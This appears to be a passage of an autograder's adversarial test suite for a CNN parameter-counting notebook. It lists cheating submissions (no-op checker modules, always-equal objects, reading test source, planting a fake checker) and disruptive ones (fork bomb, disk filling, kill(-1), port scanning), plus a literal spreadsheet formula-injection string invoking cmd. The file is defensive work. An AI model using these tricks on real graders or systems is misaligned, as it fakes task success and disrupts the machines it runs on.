        "wrong answers everywhere; sys.modules['cnnlib.checks'], numpy.testing, the old guard "
        "and the grader's module names replaced by no-op modules",
        _with(_wrong_everywhere(), "conv_output_shape", _SWAP_MODULES), dict.fromkeys(POINTS)),
    "patching_thread": samples.variant(
        "conv_param_count forgets the biases; a background thread keeps replacing the checks and "
        "numpy.allclose every 5 ms while the tests run",
        _with(_honest("bias_forgotten"), "conv_param_count", _THREAD),
        {"test_conv_param_count": "the biases are missing"}),
    "symlinked_notebook": samples.variant(
        "the notebook is a symbolic link to the instructor's source notebook (the test makes the "
        "link in its copy of the submissions: git keeps files)",
        lost=dict.fromkeys(POINTS), feedback={"test_conv_output_shape": "symbolic link"}, raw=lambda text: None,
        files={"LINK.txt": "tests/autograder/test_adversarial.py links parameter_counting.ipynb here to the course's "
                           "source notebook before grading\n"}),
    "reads_test_source": samples.variant(
        "conv_output_shape and pool_output_shape read the running test from frames, IPython "
        "history, In/Out and inspect, print it base64/hex-zlib/reversed, raise it in an exception "
        "(message and class name) and return it as the shape",
        {"conv_output_shape": _READ_TEST, "pool_output_shape": _ANSWERED_ABOVE},
        _lose("conv_output_shape", "pool_output_shape")),
    "fills_disk": samples.variant(
        "the LENET5_MODERN_PARAMS cell writes 6 GiB (files below the per-file limit, in the "
        "working copy and /tmp) before its (correct) answer: the disk limit stops it",
        _with({}, "LENET5_MODERN_PARAMS", _DISK), {"test_LENET5_MODERN_PARAMS": "disk limit"}),
    "fork_bomb": samples.variant(
        "the S2_C3_WEIGHTS cell starts hundreds of processes (each child starts one more, all "
        "sleep 20 s) before its (correct) answer: the process limit stops it",
        _with({}, "S2_C3_WEIGHTS", _FORK_BOMB), {"test_S2_C3_WEIGHTS": "process limit"}),
    "formula_exception": samples.variant(
        "conv_param_count raises an exception class named =HYPERLINK(...); the LOGREG_MNIST_PARAMS "
        "cell raises one named @SUM(...) instead of answering: questions.csv must stay inert",
        {"conv_param_count": _FORMULA,
         "LOGREG_MNIST_PARAMS": "raise type(\"@SUM(1+1)*cmd|' /C calc'!A0\", (Exception,), {})('-2+3')\n"},
        _lose("conv_param_count", "LOGREG_MNIST_PARAMS")),
    "kill_everything": samples.mistake(
        "the FC_200_PARAMS cell sends SIGKILL to every process it may (kill(-1)) instead of "
        "answering: a process next to the grader lives on, only that question is lost", "FC_200_PARAMS", _KILL_ALL),
    "lying_subclasses": samples.variant(
        "wrong values in subclasses of int, float, str, tuple, list, dict, ndarray and np.int64 "
        "whose == is always true (and the float is smaller and larger than anything)",
        {"conv_output_shape": _LIARS, **dict.fromkeys(ANSWERS[1:4], _ANSWERED_ABOVE),
         "S2_C3_WEIGHTS": "S2_C3_WEIGHTS = Int(1)\n",
         "LENET5_MODERN_PARAMS": "LENET5_MODERN_PARAMS = Float(1.0)\n",
         "CONV_100_PARAMS": "CONV_100_PARAMS = Int64(1)\n",
         "ALEXNET_CONV1_SHAPE": "ALEXNET_CONV1_SHAPE = Dict({1: 1})\n",
         "ALEXNET_POOL1_SHAPE": "ALEXNET_POOL1_SHAPE = Tuple((1, 1, 1))\n"},
        _lose(*ANSWERS[:6], "CONV_100_PARAMS", "ALEXNET_CONV1_SHAPE", "ALEXNET_POOL1_SHAPE")),
    "registered_integral": samples.variant(
        "conv_param_count and CONV_100_PARAMS are an object registered as numbers.Integral, equal "
        "to anything, that notes what it is compared with (a later cell prints the notes)",
        {"conv_param_count": _INTEGRAL, "CONV_100_PARAMS": "CONV_100_PARAMS = Anything()\n",
         "LOGREG_MNIST_PARAMS": "print('compared with:', Anything.seen)\n" + _solution("LOGREG_MNIST_PARAMS") + "\n"},
        _lose("conv_param_count", "CONV_100_PARAMS")),
    "rebinds_helpers": samples.variant(
        "wrong conv_output_shape, pool_output_shape and ALEXNET_CONV1_SHAPE; the answer cell "
        "rebinds max, min, all, any, check_equal, check_true, check_rule, np, as_shape, "
        "is_whole_number and library_names_used",
        {**_with(_honest("off_by_one"), "conv_output_shape", _REBIND), **_honest("pool_divides_by_stride"),
         "ALEXNET_CONV1_SHAPE": "ALEXNET_CONV1_SHAPE = (96, 54, 54)\n"},
        {"test_conv_output_shape": "the +1 is missing", "test_pool_output_shape": "divided the size by the stride",
         "test_ALEXNET_CONV1_SHAPE": None}),
    "forbidden_calls": samples.variant(
        "the four functions call cnnlib's forbidden layers through __import__ with built names, "
        "importlib with a run-time name and exec of cnnlib/nn.py's source", dict(_FORBIDDEN), _lose(*ANSWERS[:4])),
    "oversized_output": samples.variant(
        "conv_output_shape raises a 50 MB message, pool_output_shape returns 300 MB, "
        "linear_param_count (one bias per weight) prints its inputs, the ALEXNET_FC6_PARAMS cell "
        "raises a 50 MB message before its answer",
        {"conv_output_shape": _HUGE_MESSAGE, "pool_output_shape": _HUGE_RETURN, "linear_param_count": _SPY,
         "ALEXNET_FC6_PARAMS": _HUGE_ANSWER_ERROR + _solution("ALEXNET_FC6_PARAMS") + "\n"},
        _lose("conv_output_shape", "linear_param_count", "ALEXNET_FC6_PARAMS")
        | {"test_pool_output_shape": "too much data"}),
    "attacks_the_wire": samples.variant(
        "answers the grader cannot take: a list nested 100,000 deep, a function that never returns "
        "(and ignores interrupts), an object ndarray of an always-equal prober, a function returning "
        "a function that looks for the checker, a self-referencing list, a prober whose attributes "
        "are itself, a generator, an object-dtype shape, a list of 2 million items",
        {"conv_output_shape": _WIRE, **dict.fromkeys(ANSWERS[1:4], _ANSWERED_ABOVE),
         "S2_C3_WEIGHTS": _SELF_LIST, "LENET5_MODERN_PARAMS": _PROBER_CONSTANT, "CONV_100_PARAMS": _GENERATOR,
         "ALEXNET_CONV1_SHAPE": _OBJECT_ARRAY, "ALEXNET_POOL1_SHAPE": _WIDE_LIST},
        _lose(*ANSWERS[:6], "CONV_100_PARAMS", "ALEXNET_CONV1_SHAPE", "ALEXNET_POOL1_SHAPE")),
    "exits_during_test": samples.mistake(
        "conv_param_count calls os._exit while the test calls it: only that question is lost",
        "conv_param_count", _EXIT_IN_TEST, "kernel"),
    "plants_checker_module": samples.variant(
        "wrong answers everywhere; the first answer cell writes a cnnlib/ package into the "
        "notebook's folder (the checker kernel's working folder) whose checks do nothing",
        _with(_wrong_everywhere(), "conv_output_shape", _PLANT), dict.fromkeys(POINTS)),
    "phones_home": samples.mistake(
        "the LOGREG_MNIST_PARAMS cell scans every port of 127.0.0.1 and two hosts outside, and "
        "answers only if one of them answered", "LOGREG_MNIST_PARAMS", _NETWORK),
}
